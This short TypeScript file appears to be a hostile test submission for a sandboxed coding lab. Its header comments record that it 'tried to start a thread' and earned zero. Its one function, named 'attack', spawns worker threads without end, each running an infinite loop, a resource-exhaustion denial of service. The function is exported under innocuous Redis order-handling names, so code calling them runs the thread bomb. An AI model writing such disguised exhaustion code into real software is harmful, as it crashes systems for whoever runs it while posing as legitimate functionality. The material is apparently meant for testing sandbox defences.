// tries: starting threads without end
// lab: 03
// earns: 0
// told: tried to start a thread
import { Worker } from 'node:worker_threads';

async function attack(): Promise<void> {
  for (;;) new Worker('for (;;);', { eval: true, execArgv: [] });
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
